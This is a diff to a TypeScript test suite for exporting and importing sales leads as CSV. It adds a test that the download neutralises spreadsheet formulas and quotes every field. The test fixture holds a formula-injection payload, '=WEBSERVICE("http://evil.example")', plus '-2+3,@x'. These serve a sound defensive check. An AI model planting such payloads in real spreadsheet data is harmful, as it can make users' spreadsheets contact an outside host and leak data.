@@ -12,7 +12,7 @@ import { csvCells } from './records-csv';
 import { recordsRepo } from './records.repo';
 import { recordsServer } from './records.fixtures';
 
-const { ctx, as, post, get, leads, lead, order } = recordsServer();
+const { ctx, as, post, get, leads, lead, order, importLeads } = recordsServer();
 
 describe('downloads', () => {
   /** The download: status, headers, and its text once its BOM (checked) is off. */
@@ -72,6 +72,20 @@ describe('downloads', () => {
     const filtered = rowsOf((await download('lead', '&q=hyperlink')).body);
     expect(filtered[0]![1]).toBe('Date');
     expect(filtered).toHaveLength(2);
+  });
+
+  it('neutralises a formula after a separator or a line break, and quotes every field', async () => {
+    await post('lead', lead('Semicolon;=WEBSERVICE("http://evil.example")', { notes: 'a\n-2+3,@x' }));
+    const { body } = await download('lead', '&q=semicolon', 'es');
+    const [, row] = rowsOf(body);
+    expect(row![2]).toBe('Semicolon;\'=WEBSERVICE("http://evil.example")');
+    expect(row![6]).toBe("a\n'-2+3,'@x");
+    // Every field quoted, empty ones too (the phone, the email, the seller's number).
+    expect(body).toMatch(/^"ID","Fecha",/);
+    expect(body.split('\n')[1]).toMatch(
+      /^"\d+","\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}","Semicolon;'=WEBSERVICE\(""/,
+    );
+    expect(body).toContain(',"",');
   });
 
   it('gives orders a row per line', async () => {
@@ -136,23 +150,8 @@ describe('downloads', () => {
 });
 
 describe('import', () => {
-  const importCsv = (csv: string | Uint8Array, query = '', name = 'leads.csv') => {
-    const form = new FormData();
-    const bytes = typeof csv === 'string' ? new TextEncoder().encode(csv) : csv;
-    form.append('file', new Blob([bytes as Uint8Array<ArrayBuffer>], { type: 'text/csv' }), name);
-    return ctx.server.call<{
-      data: {
-        imported: number;
-        dry_run: boolean;
-        refused: { line: number; issues: { path: string; code: string }[] }[];
-      };
-      issues?: { path: string; code: string; message: string }[];
-    }>(`/api/lead/import?institution_product_id=${ctx.sales.id}${query}`, {
-      method: 'POST',
-      ...as(),
-      body: form,
-    });
-  };
+  const importCsv = (csv: string | Uint8Array, query = '', name = 'leads.csv') =>
+    importLeads(csv, query, { name });
   const count = async () =>
     Number(
       (await get(`lead?institution_product_id=${ctx.sales.id}`)).headers.get('x-pagination-total-count'),
